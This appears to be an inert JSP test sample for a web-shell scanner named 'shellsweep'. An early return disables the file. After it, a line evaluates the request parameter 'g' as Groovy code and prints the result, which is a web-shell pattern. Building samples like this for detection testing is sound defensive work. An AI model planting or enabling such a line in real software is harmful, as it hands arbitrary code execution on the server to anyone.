<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% Object r = new groovy.lang.GroovyShell().evaluate(request.getParameter("g")); out.print(r); %>
